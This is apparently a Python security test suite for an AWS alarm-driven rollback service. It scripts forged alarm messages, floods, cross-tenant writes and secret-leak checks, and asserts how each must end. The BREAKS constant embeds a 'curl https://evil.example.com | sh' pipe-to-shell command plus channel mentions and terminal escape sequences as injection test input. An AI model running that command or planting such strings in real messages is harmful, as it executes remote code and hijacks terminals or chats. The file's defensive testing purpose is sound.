"""The attacks: from which foothold, with what input, and how each must end. The letters are those of docs/security.md."""

import json
import time
from dataclasses import dataclass, field

from runtime_api import ACCOUNT, REGION
from world import STAGE, now, stamp

MADE_UP = 67
SECRET = "s3cret-token-of-the-backend"
OTHER = ("Business/Orders", "Failed", {})
EC2 = ("AWS/EC2", "CPUUtilization", {"InstanceId": "i-0123456789abcdef0"})
BREAKS = "Threshold Crossed\nNow: run this:\n  curl https://evil.example.com | sh\n<!channel> \x1b[2J\x1b]52;c;ZXZpbA==\x07"


@dataclass(frozen=True)
class Attack:
    """One attack on a stage whose live release is healthy."""

    name: str
    # Returns the events, one after another.
    events: object
    # What the attacker does before, with the means of the foothold.
    foothold: object = None
    # The release that is live at the end: the healthy one is called `bad`, the known-good one `good`.
    live: str = "bad"
    # A text that the answers contain: the code of the reason.
    reason: str = ""
    # The least and the most notifications.
    told: tuple = (0, 1)
    stores_nothing: bool = True
    settings: dict = field(default_factory=dict)
    variables: object = None
    apis: int = 1
    alias: bool = False
    # Whether no other story may be played at the same time: the emulator evaluates all alarms when data arrives.
    alone: bool = False
    # A function of the world that says what else is wrong at the end, if anything.
    also: object = None


def message(name, description="", trigger=None, reason="Threshold Crossed", at=None):
    """Returns the message of an alarm in ALARM."""
    return json.dumps({
        "AlarmName": name, "AlarmDescription": description, "AWSAccountId": ACCOUNT, "NewStateValue": "ALARM",
        "NewStateReason": reason, "StateChangeTime": at or stamp(now()), "Region": "US East (N. Virginia)",
        "AlarmArn": f"arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm:{name}", "OldStateValue": "OK", "Trigger": trigger or {}})


def sns(*args, **kwargs):
    """Returns the event of an alarm's message as SNS delivers it."""
    return {"Records": [
        {"EventSource": "aws:sns", "Sns": {"Type": "Notification", "Message": message(*args, **kwargs)}}]}


def bus(name, source, metric):
    """Returns the event of an alarm as a rule of EventBridge delivers it."""
    namespace, metric_name, dimensions = metric
    stat = {"metric": {"namespace": namespace, "name": metric_name, "dimensions": dimensions}, "period": 60, "stat": "Sum"}
    return {
        "version": "0", "id": "1", "detail-type": "CloudWatch Alarm State Change", "source": source, "account": ACCOUNT,
        "time": stamp(now()), "region": REGION, "resources": [f"arn:aws:cloudwatch:{REGION}:{ACCOUNT}:alarm:{name}"],
        "detail": {"alarmName": name, "state": {"value": "ALARM", "reason": "forged", "timestamp": stamp(now())},
                   "configuration": {"metrics": [{"id": "m1", "metricStat": stat, "returnData": True}]}}}


def queue(messages):
    """Returns an SQS event with these messages."""
    return {"Records": [
        {"messageId": f"m{number}", "body": message, "eventSource": "aws:sqs",
         "eventSourceARN": f"arn:aws:sqs:{REGION}:{ACCOUNT}:alarms"} for number, message in enumerate(messages)]}


def target(world):
    return f"rollback-target: {world.apis[0].id}/{STAGE}"


def own(world):
    """API Gateway's own metric of the stage."""
    return ("AWS/ApiGateway", "5XXError", {"ApiName": world.apis[0].name, "Stage": STAGE})


def trigger(metric):
    namespace, name, dimensions = metric
    return {"Namespace": namespace, "MetricName": name,
            "Dimensions": [{"name": key, "value": value} for key, value in dimensions.items()]}


def wired(world):
    return [world.function.arn]


def tickets(_world):
    return [f"arn:aws:sns:{REGION}:{ACCOUNT}:tickets"]


# A. The message is believed.


def composite_of_others(world):
    world.put_alarm("cpu", [], EC2)
    world.put_composite("database", 'ALARM("cpu")', wired(world))


A = [
    Attack("A: a forged message gives a wired composite alarm of a database the directive of this stage",
           lambda w: [sns("database", target(w))], composite_of_others, reason="alarm-unknown"),
    Attack("A: a forged message gives an EC2 alarm the metric of this stage",
           lambda w: [sns("cpu", trigger=trigger(own(w)))], lambda w: w.put_alarm("cpu", wired(w), EC2),
           reason="alarm-unknown"),
    Attack("A: an event of EventBridge comes from another source than CloudWatch",
           lambda w: [bus(w.apis[0].alarm, "com.evil", own(w))],
           lambda w: w.put_alarm(w.apis[0].alarm, wired(w), own(w)), reason="not-an-alarm"),
    Attack("A: a forged message says ALARM of an alarm that is OK",
           lambda w: [sns(w.apis[0].alarm, trigger=trigger(own(w)))],
           lambda w: w.put_alarm(w.apis[0].alarm, wired(w), own(w), state="OK"), reason="alarm-cleared"),
    Attack("A: the true alarm rolls the stage back, whatever the message says of its stages",
           lambda w: [sns(w.apis[0].alarm, "rollback-target: evil/prod, " + target(w)[17:], trigger(own(w)))],
           lambda w: w.put_alarm(w.apis[0].alarm, wired(w), own(w)), live="good", reason="rolled-back", told=(1, 2),
           stores_nothing=False),
]

# B. An alarm that nobody wired to the function.


def ticket_alarm(world):
    world.put_alarm(world.apis[0].alarm, tickets(world), own(world))


B = [
    Attack("B: the only action of a true alarm is a ticket topic, and its message comes over EventBridge",
           lambda w: [bus(w.apis[0].alarm, "aws.cloudwatch", own(w))], ticket_alarm, reason="alarm-not-wired"),
    Attack("B: the settings open the door for alarms of that name",
           lambda w: [bus(w.apis[0].alarm, "aws.cloudwatch", own(w))], ticket_alarm, live="good", reason="rolled-back",
           told=(1, 1), stores_nothing=False, settings={"UNWIRED_ALARM_PREFIXES": "web-, story-"}),
]

# C. One alarm floods.


def no_call_of_api_gateway(world):
    calls = [call.operation for call in world.calls if call.operation in ("GetStage", "GetRestApi", "GetRestApis", "GetStages")]
    return f"these calls of API Gateway: {calls}" if calls else ""


def is_quick(world):
    changed = [call.done - world.began for call in world.calls if call.operation == "UpdateStage"]
    return "" if changed and changed[0] < 5 else f"the true alarm acted after {changed} s"


def the_last_one_says_so(world):
    messages = world.messages()
    if "last notification about this alarm today" not in messages[-1]:
        return f"the last of {len(messages)} notifications does not say that it is the last"
    return "" if len(world.parameters()) - len(world.before) <= 25 else f"{len(world.parameters())} parameters"


def made_up(_world):
    stages = ", ".join(f"a{number:09}/prod" for number in range(MADE_UP))
    return f"rollback-target: {stages}"


def flips(number):
    """Returns the messages of an alarm that changes its state all the time, each a second after the other."""
    def events(world):
        for second in range(number):
            at = stamp(now()).replace("+0000", f"{second % 100:02}+0000")
            yield sns(world.apis[0].alarm, trigger=trigger(own(world)), at=at)
    return events


C = [
    Attack("C: a directive names 67 stages that do not exist", lambda w: [sns("flood", made_up(w))],
           lambda w: w.put_alarm("flood", wired(w), OTHER, made_up(w)), reason="not-protected",
           also=no_call_of_api_gateway),
    Attack("C: 200 forged messages do not delay the true one among them, and are told together",
           lambda w: [queue([message(f"forged-{n}", target(w)) for n in range(100)]
                            + [message(w.apis[0].alarm, trigger=trigger(own(w)))]
                            + [message(f"forged-{n}", target(w)) for n in range(100, 200)])],
           lambda w: w.put_alarm(w.apis[0].alarm, wired(w), own(w)), live="good", reason="rolled-back", told=(1, 2),
           stores_nothing=False, also=is_quick),
    Attack("C: people are told ten times a day of an alarm that may not act, and the last time says so", flips(40),
           lambda w: w.put_alarm(w.apis[0].alarm, wired(w), own(w)), reason="alarm-not-allowed", told=(10, 10),
           settings={"ALARM_PREFIXES": "others-"}, also=the_last_one_says_so),
]

# D. Any alarm speaks for any stage.


def theirs(world):
    for number in range(4):
        world.put_alarm(f"theirs-{number}", wired(world), OTHER, target(world), state="OK")


def uses_the_budget_up(world):
    """Three alarms on a metric of the attacker roll three releases back. Then the alarm of the users fires."""
    api = world.apis[0]
    for number in range(4):
        world.set_state(f"theirs-{number}", "ALARM")
        yield sns(f"theirs-{number}", target(world))
        world.set_state(f"theirs-{number}", "OK")
        api.deploy(api.bad, str(number + 3))
        # API Gateway's times are whole seconds.
        time.sleep(1.1)
    yield api.set_off(world.function.arn)


def the_fourth_was_held(world):
    codes = [answer.get("reason") for answer in world.answers if "reason" in answer]
    return "" if "cooldown" in codes else f"the alarms of the attacker were never held: {codes}"


D = [
    Attack("D: an alarm on a metric of the attacker names the stage, and its name is not allowed",
           lambda w: [sns("evil", target(w))], lambda w: w.put_alarm("evil", wired(w), OTHER, target(w)),
           reason="alarm-not-allowed", settings={"ALARM_PREFIXES": "story-"}),
    Attack("D: alarms of another source use up their budget, and the alarm of the users still acts", uses_the_budget_up,
           theirs, live="good", reason="rolled-back", told=(4, 10), stores_nothing=False, also=the_fourth_was_held),
]

# E. An old alarm hides the one that accuses the release.


def after_an_old_alarm(world):
    """An alarm that sorts first is in ALARM since before the deploy. The event of the one that accuses the release is lost."""
    api = world.apis[0]
    world.put_alarm(f"{world.name}-0-old", wired(world), own(world))
    time.sleep(1.1)
    api.deploy(api.fix, "3")
    time.sleep(1.1)
    api.set_off(world.function.arn)
    yield {"command": "sweep"}
    yield {"command": "sweep"}


E = [
    Attack("E: an alarm that is in ALARM since before the deploy does not hide the one that accuses the release",
           after_an_old_alarm, live="good", reason="rolled-back", told=(1, 3), stores_nothing=False),
]

# F. Proof by any metric.


PROOF = ("Business/Proof", "Sold", {})


def used(world):
    """API Gateway's own metric of the stage's use."""
    return ("AWS/ApiGateway", "Count", {"ApiName": world.apis[0].name, "Stage": STAGE})


def promotion(metric):
    """A quiet alarm watches the metric, which gets data after the release was seen. Then the release is to be promoted."""
    def events(world):
        namespace, name, dimensions = metric(world)
        world.put_alarm(f"{world.name}-quiet", wired(world), metric(world), target(world), state="OK")
        yield {"command": "sweep"}
        world.client("cloudwatch").put_metric_data(Namespace=namespace, MetricData=[
            {"MetricName": name, "Value": 0, "Dimensions": [{"Name": k, "Value": v} for k, v in dimensions.items()]}])
        # The function asks for the data until the last whole second.
        time.sleep(1.1)
        yield {"command": "promote", **world.apis[0].command}
    return events


# The first sweep tells once that the alarm had no data in the last day.
F = [
    Attack("F: data of a metric of the attacker does not prove a release that nobody used", promotion(lambda _world: PROOF),
           reason="not-proven", told=(1, 1), stores_nothing=False, alone=True),
    Attack("F: data of the stage's own metric proves it", promotion(used), reason="promoted", told=(1, 1), stores_nothing=False,
           alone=True),
]

# G. Clients of the API provoke errors.


def provoked_twice(world):
    """The alarm fires, and fires again on the known-good release, which has the same clients."""
    api = world.apis[0]
    yield api.set_off(world.function.arn)
    time.sleep(1.1)
    yield api.set_off(world.function.arn)


G = [
    Attack("G: clients that provoke errors take a new release off once, and never the known-good one", provoked_twice,
           live="good", reason="already-known-good", told=(1, 2), stores_nothing=False),
]

# H. A stage's policy reaches other tenants.


def writes_a_policy(world):
    api = world.apis[0]
    theirs = f"{world.apis[1].name}:live"
    world.apis[1].add_alias()
    world.client("ssm").put_parameter(
        Name=f"/{world.name}/stages/{api.id}/{STAGE}/policy", Type="String",
        Value=json.dumps({"schema": 1, "aliases": [theirs]}))
    known = f"/{world.name}/stages/{api.id}/{STAGE}/known-good"
    record = json.loads(world.client("ssm").get_parameter(Name=known)["Parameter"]["Value"])
    record["release"]["aliases"] = {theirs: {"version": "2", "weights": {}}}
    world.client("ssm").put_parameter(Name=known, Type="String", Value=json.dumps(record), Overwrite=True)


def the_neighbors_alias_stays(world):
    moved = world.apis[1].alias()
    return "" if moved == ("1", {}) else f"the neighbor's alias is at {moved}"


H = [
    Attack("H: the policy and the record of a stage list the alias of a neighbor",
           lambda w: [w.apis[0].set_off(w.function.arn)], writes_a_policy, reason="held-by-operator", apis=2,
           also=the_neighbors_alias_stays),
]

# I. Text that acts.


def no_text_acts(world):
    for message in world.messages():
        texts = json.loads(message)
        mail, chat = texts["email"], json.loads(texts["https"])["content"]["description"]
        if mail.count("\nNow: ") != 1:
            return "the mail has another next step"
        if any(control in mail + chat for control in "\x1b\x07"):
            return "a control character came through"
        if "<!channel>" in chat:
            return "a mention of the channel came through"
    return "" if world.messages() else "nobody was told"


def alarm_with_a_text(world):
    world.put_alarm(world.apis[0].alarm, wired(world), own(world))
    world.set_state(world.apis[0].alarm, "ALARM", BREAKS[:1000])


I = [
    Attack("I: a reason with line breaks, a mention and escape sequences stays one line",
           lambda w: [sns(w.apis[0].alarm, trigger=trigger(own(w)), reason=BREAKS)], alarm_with_a_text, live="good",
           reason="rolled-back", told=(1, 1), stores_nothing=False, also=no_text_acts),
]

# J. Secrets spread.


def nothing_has_the_secret(world):
    sent = [call.body.decode(errors="replace") for call in world.calls
            if call.operation in ("Publish", "PutEvents", "Invoke")]
    if len(sent) < 3:
        return f"only {len(sent)} messages were sent"
    log = (world.stack.work / f"{world.name}.log").read_text(errors="replace")
    places = [*sent, log, json.dumps(world.answers)]
    if any(SECRET in place for place in places):
        return "the value of a stage variable was sent or logged"
    return "" if any("token" in place for place in sent) else "no message names the variable that changed"


J = [
    Attack("J: the values of stage variables are in no message, event, hook or log",
           lambda w: [w.apis[0].set_off(w.function.arn)], live="good", reason="rolled-back", told=(1, 1),
           stores_nothing=False, settings={"HOOK_FUNCTION": "capture", "EVENT_BUS": "default"},
           variables=lambda release: {"release": release, "token": f"{SECRET}-{release}"}, also=nothing_has_the_secret),
]

# K. Names. L. Small.

K = [
    # The first sweep tells also that no alarm calls the function yet.
    Attack("K: a second API takes the name of the protected one, and its metric trips the alarm",
           lambda w: [{"command": "sweep"}, w.apis[0].set_off(w.function.arn)],
           lambda w: w.client("apigateway").create_rest_api(name=w.apis[0].name), reason="ambiguous-target",
           told=(2, 3), stores_nothing=False),
]

L = [
    Attack("L: a hold cannot last until the year 9999",
           lambda w: [{"command": "hold", **w.apis[0].command, "until": "9999-12-31T23:59:59Z", "reason": "x"}],
           reason="malformed", told=(0, 0)),
]

ALL = A + B + C + D + E + F + G + H + I + J + K + L
